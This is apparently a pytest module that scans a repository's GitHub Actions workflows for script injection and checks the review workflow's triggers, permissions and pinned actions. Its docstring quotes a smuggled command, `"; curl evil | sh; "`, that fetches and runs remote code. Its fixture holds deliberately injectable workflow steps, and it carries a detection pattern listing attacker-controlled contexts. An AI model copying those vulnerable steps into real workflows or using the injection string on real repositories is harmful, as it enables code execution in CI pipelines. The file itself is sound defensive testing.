"""The review workflow keeps its promises, and no workflow writes event text into a script.

`${{ github.event.comment.body }}` inside `run:` is pasted into the shell script before it
runs: a comment holding `"; curl evil | sh; "` would execute. Untrusted values may be compared
in `if:` expressions or passed through `env:` (the shell then reads a variable, never code).
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from tests.conftest import REPO

WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.yml"))
REVIEW = REPO / ".github" / "workflows" / "review.yml"
EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.S)
# Contexts an outsider controls (GitHub Security Lab's list, and inputs typed by hand).
UNTRUSTED = re.compile(
    r"github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label)|"
    r"head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body|"
    r"pages\b.*\.page_name|commits\b.*\.(?:message|author)|head_commit\.(?:message|author)|"
    r"discussion\.(?:title|body))|github\.head_ref|\binputs\.|github\.event\.inputs\."
)


def _load(path: Path) -> dict[str, Any]:
    data = YAML(typ="safe").load(path.read_text("utf-8"))
    assert isinstance(data, dict)
    return data


def injection_risks(workflow: dict[str, Any]) -> list[str]:
    """Where a workflow writes an expression into a script (`run:`, github-script's `script:`),
    or an untrusted context anywhere but an `if:` condition or an `env:` value."""
    found: list[str] = []

    def visit(node: Any, where: str) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "if" or (key == "env" and isinstance(value, dict)):
                    continue  # compared, or passed as a variable: never code
                path = f"{where}.{key}"
                if key in ("run", "script") and EXPRESSION.search(str(value)):
                    found.append(f"{path}: an expression inside a script")
                    continue
                visit(value, path)
        elif isinstance(node, list):
            for i, value in enumerate(node):
                visit(value, f"{where}[{i}]")
        elif isinstance(node, str):
            for expr in EXPRESSION.findall(node):
                if UNTRUSTED.search(expr):
                    found.append(f"{where}: untrusted {expr.strip()}")

    for name, job in (workflow.get("jobs") or {}).items():  # a job may be named "run"
        visit(job, f"jobs.{name}")
    return found


@pytest.mark.parametrize("path", WORKFLOWS, ids=[p.name for p in WORKFLOWS])
def test_no_workflow_writes_event_text_into_a_script(path: Path) -> None:
    assert injection_risks(_load(path)) == []


def test_the_check_catches_the_classic_holes() -> None:
    bad = YAML(typ="safe").load(
        """
jobs:
  x:
    steps:
      - run: echo "${{ github.event.comment.body }}"
      - run: tracker review --pr ${{ github.event.issue.number }}
      - uses: actions/github-script@v7
        with:
          script: console.log("${{ github.event.pull_request.title }}")
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.head_ref }}
      - env:
          BODY: ${{ github.event.comment.body }}
        if: contains(github.event.comment.body, '/tracker')
        run: echo "$BODY"
"""
    )
    assert injection_risks(bad) == [
        "jobs.x.steps[0].run: an expression inside a script",
        "jobs.x.steps[1].run: an expression inside a script",
        "jobs.x.steps[2].with.script: an expression inside a script",
        "jobs.x.steps[3].with.ref: untrusted github.head_ref",
    ]


def test_review_runs_on_commands_and_body_edits_of_tracker_pull_requests() -> None:
    data = _load(REVIEW)
    assert data["on"] == {
        "issue_comment": {"types": ["created"]},
        "pull_request": {"types": ["edited"]},
    }
    condition = " ".join(data["jobs"]["review"]["if"].split())
    assert "github.event.issue.pull_request && contains(github.event.comment.body, '/tracker')" in (
        condition
    )
    assert "startsWith(github.event.pull_request.head.ref, 'tracker/')" in condition
    assert "github.event.pull_request.head.repo.full_name == github.repository" in condition


def test_review_has_job_level_least_privilege_and_one_group_per_pull_request() -> None:
    data = _load(REVIEW)
    job = data["jobs"]["review"]
    assert data["permissions"] == {}
    assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert job["concurrency"] == {
        "group": "tracker-review-${{ github.event.issue.number || github.event.pull_request.number }}",
        "cancel-in-progress": False,
    }


def test_review_runs_the_default_branchs_tracker_on_the_one_pull_request() -> None:
    steps = _load(REVIEW)["jobs"]["review"]["steps"]
    checkout = steps[0]
    assert checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"] == {
        "ref": "${{ github.event.repository.default_branch }}",
        "persist-credentials": False,
    }
    last = steps[-1]
    assert last["run"] == 'tracker review --pr "$PR"'
    assert (
        last["env"]["PR"] == "${{ github.event.issue.number || github.event.pull_request.number }}"
    )
    uses = re.findall(r"uses:\s*(\S+)", REVIEW.read_text("utf-8"))
    assert all(re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", u) for u in uses), uses
